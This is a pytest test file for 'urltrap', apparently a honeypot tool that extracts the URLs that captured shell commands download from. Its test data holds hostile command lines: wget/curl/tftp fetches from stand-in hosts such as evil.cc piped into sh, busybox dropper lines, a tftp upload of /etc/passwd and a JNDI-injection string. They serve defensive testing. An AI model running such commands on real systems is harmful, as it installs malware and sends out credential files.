from __future__ import annotations

import ipaddress
import json
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from urltrap import recover
from urltrap.model.url import canonical
from urltrap.recover import Context
from urltrap.recover.budget import MOST_MARKS, STEPS_PER_MARK, marks_of
from urltrap.recover.execution import explore, shell
from urltrap.recover.execution.build import tolerant
from urltrap.recover.find import LONGEST_URL, MOST_URLS, STEPS, read


def found(text: bytes, context: Context | None = None) -> list[str]:
    return [item.url for item in recover.urls(text, context)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"wget http://1.2.3.9/x.sh", ["http://1.2.3.9/x.sh"]),
        (b"wget 1.2.3.9/x.sh", ["http://1.2.3.9/x.sh"]),
        (b"wget -q -O- 1.2.3.9:81/x.sh|sh", ["http://1.2.3.9:81/x.sh"]),
        (b"curl -fsSLo /tmp/x evil.cc/x.sh", ["http://evil.cc/x.sh"]),
        (b"curl -O http://evil.cc/x.sh&", ["http://evil.cc/x.sh"]),
        (b"curl --output x --url https://evil.cc/a?b=1", ["https://evil.cc/a?b=1"]),
        (b"/bin/busybox wget http://1.2.3.9/a; /bin/busybox tftp -g -r b 1.2.3.9", ["http://1.2.3.9/a", "tftp://1.2.3.9/b"]),
        (b"tftp -g -l x -r bins/y 1.2.3.9 6969", ["tftp://1.2.3.9:6969/bins/y"]),
        (b"tftp -gr y 1.2.3.9", ["tftp://1.2.3.9/y"]),
        (b"tftp 1.2.3.9 -c get tftp1.sh", ["tftp://1.2.3.9/tftp1.sh"]),
        (b"tftp -m binary 1.2.3.9 -c get y", ["tftp://1.2.3.9/y"]),
        (b"tftp -p -l /etc/passwd 1.2.3.9", []),
        (b"ftpget -v -u anonymous -p x -P 21 1.2.3.9 local.sh remote.sh", ["ftp://1.2.3.9/remote.sh"]),
        (b"ftpget 1.2.3.9 same.sh", ["ftp://1.2.3.9/same.sh"]),
        (b"wget ftp://u:p@1.2.3.9/f", ["ftp://1.2.3.9/f"]),
        (b'sudo nohup timeout 10 wget "http://1.2.3.9/q?a=1&b=2" >/dev/null 2>&1 &', ["http://1.2.3.9/q?a=1&b=2"]),
        (b"sh -c 'wget 1.2.3.9/a'", ["http://1.2.3.9/a"]),
        (b'bash -lc "curl evil.cc/a | sh"', ["http://evil.cc/a"]),
        (b'echo "$(curl -s 1.2.3.9/a)"', ["http://1.2.3.9/a"]),
        (b"`wget 1.2.3.9/a`", ["http://1.2.3.9/a"]),
        (b"if true; then wget 1.2.3.9/a; else curl 1.2.3.9/b; fi", ["http://1.2.3.9/a", "http://1.2.3.9/b"]),
        (b"HTTP_PROXY= wget 1.2.3.9/a || (curl 1.2.3.9/b)", ["http://1.2.3.9/a", "http://1.2.3.9/b"]),
        (b"w'g'et ht'tp'://1.2.3.9/a\\ b", ["http://1.2.3.9/a%20b"]),
        (b"python -c 'import urllib; urllib.urlopen(\"http://evil.cc/p\").read()'", ["http://evil.cc/p"]),
        (b"bash <(curl -s http://evil.cc/x)", ["http://evil.cc/x"]),
        (b"wget http://[2001:db8::7]/x", ["http://[2001:db8::7]/x"]),
        (b"wget 0x01020309/x http://16909065/y", ["http://1.2.3.9/y"]),
        (b"wget -U 'Mozilla (+http://bot.example.org)' --referer=http://a.cc/ http://evil.cc/x", ["http://evil.cc/x"]),
        (b"curl -H 'Referer: http://a.cc/' -x http://proxy.cc:8080 -A http://b.cc http://evil.cc/x", ["http://evil.cc/x"]),
        (b"# http://comment.cc/\nls", []),
        (b"wget --help; curl --version; wget; tftp; wget $URL; wget -O x", []),
        (b"wget http://$IP/x; wget http://", []),
        (b"cat /etc/passwd; uname -a; echo hello.world; chmod 777 a.b/c", []),
        (b"echo wget 1.2.3.9/a", []),
    ],
)  # fmt: skip
def test_commands_give_the_urls_that_they_fetch(text: bytes, expected: list[str]) -> None:
    assert found(text) == expected


def test_a_command_names_client_span_and_certainty() -> None:
    text = b"cd /tmp; wget -q http://1.2.3.9/x.sh -O y; echo http://1.2.3.9/other"
    first, second = recover.urls(text)
    assert (first.method, first.client, first.confidence, first.output) == ("program", "wget", 95, "y")
    assert text[slice(*first.span)] == b"http://1.2.3.9/x.sh"
    assert (second.method, second.client) == ("regex", "") and second.confidence < first.confidence
    assert text[slice(*second.span)] == b"http://1.2.3.9/other"


@pytest.mark.parametrize(
    ("text", "flags"),
    [
        (b"wget http://127.0.0.1/x", ["private"]),
        (b"wget http://10.1.2.3/x", ["private"]),
        (b"wget http://192.168.1.1/x", ["private"]),
        (b"wget http://[::1]/x", ["private"]),
        (b"wget http://[fe80::1]/x", ["private"]),
        (b"curl http://169.254.169.254/latest/", ["private"]),
        (b"wget http://224.0.0.1/", ["private"]),
        (b"wget http://localhost/x", ["private"]),
        (b"wget http://router.local/x", ["private"]),
        (b"wget http://example.com/x", ["placeholder"]),
        (b"wget http://www.example.org/x", ["placeholder"]),
        (b"wget http://x.x.x.x/x", ["placeholder"]),
        (b"wget http://SERVER_IP/x", ["placeholder"]),
        (b"wget http://your-server.com/x", ["placeholder"]),
        (b"wget http://9.9.9.9/$a", ["truncated"]),
        (b"wget http://9.9.9.9/bins/x86${b}.sh", ["truncated"]),
        (b"wget http://198.51.10", ["truncated"]),
        (b"wget http://8.8.4.4/x", []),
        (b"wget http://evil.cc/x", []),
    ],
)
def test_hosts_that_are_nobodys_are_flagged(text: bytes, flags: list[str]) -> None:
    (item,) = recover.urls(text)
    assert item.flags == flags


def test_a_url_at_the_end_of_a_cut_text_is_truncated_and_others_are_not() -> None:
    text = b"wget http://9.9.9.9/a http://9.9.9.9/b"
    assert [item.flags for item in recover.urls(text, Context(cut=True))] == [[], ["truncated"]]
    assert [item.flags for item in recover.urls(text)] == [[], []]


def test_the_sensors_own_address_is_flagged_and_settings_make_networks_public() -> None:
    own = Context(own_addresses=frozenset({"9.9.9.9"}))
    assert recover.urls(b"wget 9.9.9.9/x", own)[0].flags == ["own-sensor"]
    public = Context(
        own_addresses=frozenset({"127.0.0.1"}), public_networks=(ipaddress.ip_network("127.0.0.0/8"),)
    )
    assert recover.urls(b"wget 127.0.0.1:8000/x", public)[0].flags == []
    assert recover.urls(b"wget 10.0.0.1/x", public)[0].flags == ["private"]


def test_text_is_searched_without_reading_it_as_commands() -> None:
    text = b"See (http://evil.cc/a_(b)), or <https://evil.cc/c>. Referer: http://ref.cc/ xmlns='http://www.w3.org/x'"
    assert found(text, Context(language="text")) == ["http://evil.cc/a_(b)", "https://evil.cc/c"]


def test_what_a_program_asked_for_is_certain() -> None:
    item = recover.asked(b"1.2.3.9/x", "busybox-wget")
    assert item is not None
    assert (item.url, item.method, item.confidence, item.client) == (
        "http://1.2.3.9/x",
        "asked",
        100,
        "busybox-wget",
    )
    assert recover.asked(b"http://", "wget") is None
    assert recover.asked(b"\xff" * 20_000, "wget") is None
    end = recover.asked(b"http://9.9.9.9/x", "wget", Context(cut=True))
    assert end is not None and end.flags == []


def test_equal_urls_are_given_once_with_the_best_certainty() -> None:
    items = recover.urls(b"echo http://9.9.9.9/x; wget http://9.9.9.9/x")
    assert [(item.url, item.confidence) for item in items] == [("http://9.9.9.9/x", 95)]


HOSTILE = [
    b"'" * 1_000_000,
    b'"' * 999_999,
    b'"' + b"\\" * 999_999,
    b"$(" * 500_000,
    b'"$(' * 333_333,
    b"`" * 1_000_000,
    b"${" * 500_000,
    b"http://" * 140_000,
    b"wget " * 200_000,
    b"wget " + b"a." * 499_000,
    b"wget " + b"-" * 999_000,
    b"wget " + b"1." * 499_000 + b"/",
    b"http://a.cc/" + b"&x" * 490_000,
    b"http://a.cc/" + b")" * 900_000,
    b"Referer: " * 110_000 + b"http://a.cc/",
    b"sh -c '" * 140_000,
    b"sh -c \"eval " * 80_000,
    b"echo -ne '\\x41' >> f;" * 45_000,
    b"\x00" * 1_000_000,
    b"wget http://a.cc/%d\n" * 45_000,
    b"\n".join(b"wget http://a.cc/%d" % n for n in range(40_000)),
    b"\\\n" * 500_000,
    b"#" * 1_000_000,
    b"a" * 1_000_000,
    b" " * 1_000_000,
    b"<" * 1_000_000,
    b"://" * 330_000,
    b"printf '" + b"\\x41" * 249_000 + b"'|sh",
    b"\\x41" * 250_000,
    b"eval 'eval " * 90_000,
    b"powershell -enc " + b"QQBB" * 240_000,
    b"a|" * 500_000,
    b"a&&" * 330_000,
    b"sh -c \"$(curl http://a.cc/x)\";" * 30_000,
    b"f(){ f; };" * 100_000,
    b"${jndi:ldap://a.cc/" + b"${lower:a}" * 99_000 + b"}",
    b"POST / HTTP/1.1\r\n\r\n{" + b'"a":"wget http://a.cc/x",' * 38_000 + b"}",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=[repr(text[:12]) for text in HOSTILE])
def test_a_hostile_megabyte_ends(text: bytes) -> None:
    # Anything worse than linear would not come back within the time that a hanging test is given.
    items = recover.urls(text)
    assert len(items) <= MOST_URLS
    assert all(len(item.raw) <= LONGEST_URL for item in items)
    recover.urls(text, Context(language="text"))


@pytest.mark.parametrize("starter", [b"env -S ", b"ssh a ", b"eval eval ", b"watch ", b"su -c '"])
def test_texts_that_start_texts_are_read_for_as_long_as_there_are_steps(
    starter: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    marks: list[int] = []

    def counted(text: str):  # type: ignore[no-untyped-def]
        marks.append(marks_of(text.encode()))
        return tolerant(text)

    monkeypatch.setattr(shell, "tolerant", counted)
    monkeypatch.setattr(explore, "tolerant", counted)
    read(starter * (1_000_000 // len(starter)))
    assert sum(marks) <= 2 * MOST_MARKS + STEPS // STEPS_PER_MARK


@pytest.mark.parametrize(
    "text", [b"{a,b}" * 200_000, b"\xff" * 1_000_000, b"a=aaaaaaaa;" + b"a=$a$a;" * 140_000]
)
def test_a_hostile_megabyte_takes_little_memory(text: bytes) -> None:
    recover.urls(b":")
    tracemalloc.start()
    recover.urls(text)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 50_000_000


@given(st.binary(max_size=300))
def test_any_bytes_are_read_without_an_error(text: bytes) -> None:
    for language in ("shell", "text"):
        for item in recover.urls(text, Context(language=language)):  # type: ignore[arg-type]
            assert canonical(item.url) == item.url


shell_text = st.lists(
    st.sampled_from(
        [b"wget ", b"curl ", b"tftp ", b"-g ", b"-r ", b"-O ", b"http://", b"1.2.3.9", b"/a", b"'", b'"', b"$(", b")",
         b"`", b"\\", b";", b"&&", b"|", b" ", b"\n", b"${x}", b"#", b"sh -c ", b">", b"\xff", b"://", b"?", b"@"]
    ),
    max_size=40,
).map(b"".join)  # fmt: skip


@given(shell_text)
def test_any_shell_like_text_gives_urls_whose_spans_lie_in_it(text: bytes) -> None:
    for item in recover.urls(text):
        start, end = item.span
        assert (start, end) == (-1, -1) or 0 <= start < end <= len(text)
        assert not any(byte in item.url for byte in " \n\t'\"<>`")


@given(
    st.sampled_from(["http", "https", "ftp"]),
    st.from_regex(r"[a-z]{1,12}\.(?:cc|net|xyz)", fullmatch=True),
    st.from_regex(r"(?:/[A-Za-z0-9._~-]{1,10}){1,4}", fullmatch=True),
    st.sampled_from(
        [
            "wget {}",
            "wget -q '{}' -O x",
            'curl -o y "{}"',
            "cd /tmp;wget {};sh x",
            "(curl {})|sh",
            "x=$(wget {})",
        ]
    ),
)
def test_every_plain_download_is_found(scheme: str, host: str, path: str, line: str) -> None:
    url = f"{scheme}://{host}{path}"
    assert canonical(url) in found(line.format(url).encode())


@pytest.mark.shared_data
def test_real_command_lines_are_mostly_read_right(shared_data: Path) -> None:
    right = total = false = 0
    for line in (shared_data / "groundtruth.jsonl").read_text("utf-8").splitlines():
        row = json.loads(line)
        if row["category"] not in ("command", "command-joined"):
            continue
        urls = set(found(row["text"].encode("utf-8", "surrogateescape")))
        wanted = {canonical(url) for url in row["urls"]}
        total += 1
        right += urls >= wanted
        false += not wanted and bool(urls)
    assert right >= 0.93 * total
    assert false <= 0.04 * total
